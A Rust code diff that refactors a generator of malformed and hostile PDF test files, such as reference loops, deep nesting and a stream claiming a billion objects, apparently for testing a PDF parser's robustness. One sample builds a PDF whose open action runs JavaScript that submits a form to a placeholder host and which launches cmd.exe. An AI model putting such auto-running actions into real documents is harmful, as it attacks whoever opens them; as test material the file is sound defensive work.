@@ -6,7 +6,7 @@ use lopdf::{Document, Object, Stream, dictionary};
 
 use crate::{
     pdf_from_text, pdf_with_content_bomb, pdf_with_form_loop, pdf_with_page_tree_loop,
-    pdf_with_xref_loop,
+    pdf_with_xref_loop, root_of,
 };
 
 /// One file of the corpus.
@@ -102,11 +102,7 @@ fn pdf_broken_xref() -> Vec<u8> {
 fn pdf_deep_nesting() -> Vec<u8> {
     let mut bytes = pdf_from_text("Głęboko zagnieżdżona tablica.", None, None);
     let doc = Document::load_mem(&bytes).expect("the generated PDF loads");
-    let root = doc
-        .trailer
-        .get(b"Root")
-        .and_then(Object::as_reference)
-        .expect("a root");
+    let root = root_of(&doc);
     let prev = bytes
         .windows(9)
         .rposition(|w| w == b"startxref")
@@ -139,56 +135,60 @@ fn pdf_deep_nesting() -> Vec<u8> {
     bytes
 }
 
-/// A PDF that asks the reader to run JavaScript when opened (and to launch a program).
-fn pdf_with_javascript() -> Vec<u8> {
-    let bytes = pdf_from_text(
-        "Zawiadomienie o terminie rozprawy administracyjnej.",
-        None,
-        None,
-    );
-    let mut doc = Document::load_mem(&bytes).expect("the generated PDF loads");
-    let js = doc.add_object(dictionary! {
-        "S" => "JavaScript",
-        "JS" => Object::string_literal("app.alert('x'); this.submitForm('http://example.invalid/');"),
-    });
-    let launch = doc.add_object(dictionary! {
-        "S" => "Launch",
-        "F" => Object::string_literal("cmd.exe"),
-    });
-    let root = doc
-        .trailer
-        .get(b"Root")
-        .and_then(Object::as_reference)
-        .expect("a root");
+/// A PDF of `text` whose catalog gains the entries `amend` returns (after adding the objects
+/// they refer to), saved anew.
+fn with_catalog(
+    text: &str,
+    amend: impl FnOnce(&mut Document) -> Vec<(&'static str, Object)>,
+) -> Vec<u8> {
+    let mut doc =
+        Document::load_mem(&pdf_from_text(text, None, None)).expect("the generated PDF loads");
+    let entries = amend(&mut doc);
+    let root = root_of(&doc);
     if let Ok(Object::Dictionary(catalog)) = doc.get_object_mut(root) {
-        catalog.set("OpenAction", js);
-        catalog.set("AA", dictionary! { "WC" => launch });
+        for (key, value) in entries {
+            catalog.set(key, value);
+        }
     }
+    saved(&mut doc)
+}
+
+fn saved(doc: &mut Document) -> Vec<u8> {
     let mut out = Vec::new();
     doc.save_to(&mut out).unwrap();
     out
 }
 
+/// A PDF that asks the reader to run JavaScript when opened (and to launch a program).
+fn pdf_with_javascript() -> Vec<u8> {
+    with_catalog(
+        "Zawiadomienie o terminie rozprawy administracyjnej.",
+        |doc| {
+            let js = doc.add_object(dictionary! {
+                "S" => "JavaScript",
+                "JS" => Object::string_literal("app.alert('x'); this.submitForm('http://example.invalid/');"),
+            });
+            let launch = doc.add_object(dictionary! {
+                "S" => "Launch",
+                "F" => Object::string_literal("cmd.exe"),
+            });
+            vec![
+                ("OpenAction", js.into()),
+                ("AA", dictionary! { "WC" => launch }.into()),
+            ]
+        },
+    )
+}
+
 /// A PDF with an object stream that claims a billion objects.
 fn pdf_huge_object_stream() -> Vec<u8> {
-    let bytes = pdf_from_text("Strumień obiektów bez końca.", None, None);
-    let mut doc = Document::load_mem(&bytes).expect("the generated PDF loads");
-    let stream = Stream::new(
-        dictionary! { "Type" => "ObjStm", "N" => 1_000_000_000i64, "First" => 4 },
-        b"1 0 ".to_vec(),
-    );
-    let id = doc.add_object(stream);
-    let root = doc
-        .trailer
-        .get(b"Root")
-        .and_then(Object::as_reference)
-        .expect("a root");
-    if let Ok(Object::Dictionary(catalog)) = doc.get_object_mut(root) {
-        catalog.set("Extra", id);
-    }
-    let mut out = Vec::new();
-    doc.save_to(&mut out).unwrap();
-    out
+    with_catalog("Strumień obiektów bez końca.", |doc| {
+        let stream = Stream::new(
+            dictionary! { "Type" => "ObjStm", "N" => 1_000_000_000i64, "First" => 4 },
+            b"1 0 ".to_vec(),
+        );
+        vec![("Extra", doc.add_object(stream).into())]
+    })
 }
 
 /// A form XObject that draws itself, its `/Subtype` taken away (what fuzzing found: a check
@@ -200,9 +200,7 @@ fn pdf_form_loop_without_subtype() -> Vec<u8> {
             stream.dict.remove(b"Subtype");
         }
     }
-    let mut out = Vec::new();
-    doc.save_to(&mut out).unwrap();
-    out
+    saved(&mut doc)
 }
 
 /// The corpus.
